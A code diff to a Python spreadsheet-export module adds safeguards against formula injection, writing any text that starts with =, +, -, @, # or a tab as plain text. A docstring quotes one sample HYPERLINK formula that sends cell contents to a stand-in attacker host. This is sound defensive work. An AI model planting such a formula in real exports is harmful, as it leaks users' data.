@@ -13,6 +13,7 @@ from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
+from app import clock
 from app.exchange.reading import column_letter
 
 FORMATS = {"money": "#,##0.00", "qty": "#,##0.###", "rate": "0.0%", "date": "yyyy-mm-dd", "month": "yyyy-mm",
@@ -23,6 +24,40 @@ _NUMBER = re.compile(r"^-?[\d,]*\.?\d+$")
 _PERCENT = re.compile(r"^-?\d+(\.\d+)?\s?%$")
 _DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
 _AS_IS = frozenset({str, int, float, dt.date, type(None)})  # what cell_value() returns unchanged
+# text starting with these is a formula (=), or becomes one when retyped or pasted (+ - @, and a tab
+# or carriage return before them); # is Excel's error cells (#REF!): such text is written as text
+FORMULA_START = frozenset("=+-@\t\r#")
+
+
+def text_cell(ws: Any, value: str) -> Any:
+    """A cell holding ``value`` as text whatever it starts with: openpyxl makes a formula of any
+    string starting with = (and an error cell of #REF!), so a customer named
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")' would be one. Works in write-only and
+    normal mode (``ws.append`` takes the cell as it is)."""
+    from openpyxl.cell import WriteOnlyCell
+
+    c = WriteOnlyCell(ws, value)
+    c.data_type = "s"
+    return c
+
+
+def safe(ws: Any, value: Any) -> Any:
+    """``value``, or a text cell when it is text that a spreadsheet would take as a formula. The
+    one test every writer uses (numbers pass untouched: a negative number is a number)."""
+    if isinstance(value, str) and value[:1] in FORMULA_START:
+        return text_cell(ws, value)
+    return value
+
+
+def safe_row(ws: Any, values: Sequence[Any]) -> list[Any]:
+    return [safe(ws, v) for v in values]
+
+
+def put_text(cell: Any, value: Any) -> None:
+    """Set an existing cell (normal mode: ``ws.cell``, ``ws["B2"]``) the same safe way."""
+    cell.value = value
+    if isinstance(value, str) and value[:1] in FORMULA_START:
+        cell.data_type = "s"
 
 
 def cell_value(value: Any, kind: str) -> Any:
@@ -33,7 +68,7 @@ def cell_value(value: Any, kind: str) -> Any:
     if isinstance(value, Decimal):
         return float(value)
     if isinstance(value, dt.datetime):
-        return value.astimezone().replace(tzinfo=None) if value.tzinfo else value
+        return value.astimezone(clock.zone()).replace(tzinfo=None) if value.tzinfo else value
     if hasattr(value, "value") and not isinstance(value, (str, int, float)):  # enums
         return value.value
     return value
@@ -81,7 +116,7 @@ def write_table(target: Path | str, title: str, columns: Sequence[tuple[str, str
     bold, fill = Font(bold=True, color="FFFFFF"), PatternFill("solid", fgColor="1F4E79")
     head = []
     for label, _k in columns:
-        c = WriteOnlyCell(ws, value=label)
+        c = text_cell(ws, label) if isinstance(label, str) else WriteOnlyCell(ws, value=label)
         c.font, c.fill, c.alignment = bold, fill, Alignment(horizontal="center", vertical="center", wrap_text=True)
         head.append(c)
     ws.append(head)
@@ -95,14 +130,22 @@ def write_table(target: Path | str, title: str, columns: Sequence[tuple[str, str
             styled[i] = WriteOnlyCell(ws)
             styled[i].number_format = FORMATS[k]
     n = 0
+    risky = FORMULA_START
     for row in rows:
         out = []
         for i, value in enumerate(row):
             cls = value.__class__
-            if cls is Decimal:
+            if cls is str:  # text that would be a formula goes in as text (numbers skip this test)
+                if value[:1] in risky:
+                    out.append(text_cell(ws, value))
+                    continue
+            elif cls is Decimal:
                 value = float(value)
             elif cls not in _AS_IS:
                 value = cell_value(value, kinds[i] if i < len(kinds) else "text")
+                if isinstance(value, str) and value[:1] in risky:
+                    out.append(text_cell(ws, value))
+                    continue
             if i in styled and value is not None:
                 c = styled[i]
                 c.value = value
@@ -141,7 +184,8 @@ def write_template(target: Path | str, kind: Any, choice_lists: dict[str, list[s
     list_col = 0
     importable = [f for f in kind.fields if "Export only" not in f.help]
     for i, f in enumerate(importable):
-        c = ws.cell(1, i + 1, f.label)
+        c = ws.cell(1, i + 1)
+        put_text(c, f.label)
         c.font = Font(bold=True, color="FFFFFF")
         c.fill = PatternFill("solid", fgColor="B00020" if f.required else "1F4E79")
         kinds = {"code": "a code", "text": "text", "int": "a whole number", "qty": "a quantity", "money": "an amount",
@@ -157,7 +201,7 @@ def write_template(target: Path | str, kind: Any, choice_lists: dict[str, list[s
             options = ["yes", "no"]
         if options:
             for r, opt in enumerate(options, 1):
-                lists.cell(r, list_col + 1, opt)
+                put_text(lists.cell(r, list_col + 1), opt)
             letter = column_letter(list_col)
             dv = DataValidation(type="list", formula1=f"=Lists!${letter}$1:${letter}${len(options)}",
                                 allow_blank=not f.required, showErrorMessage=True,
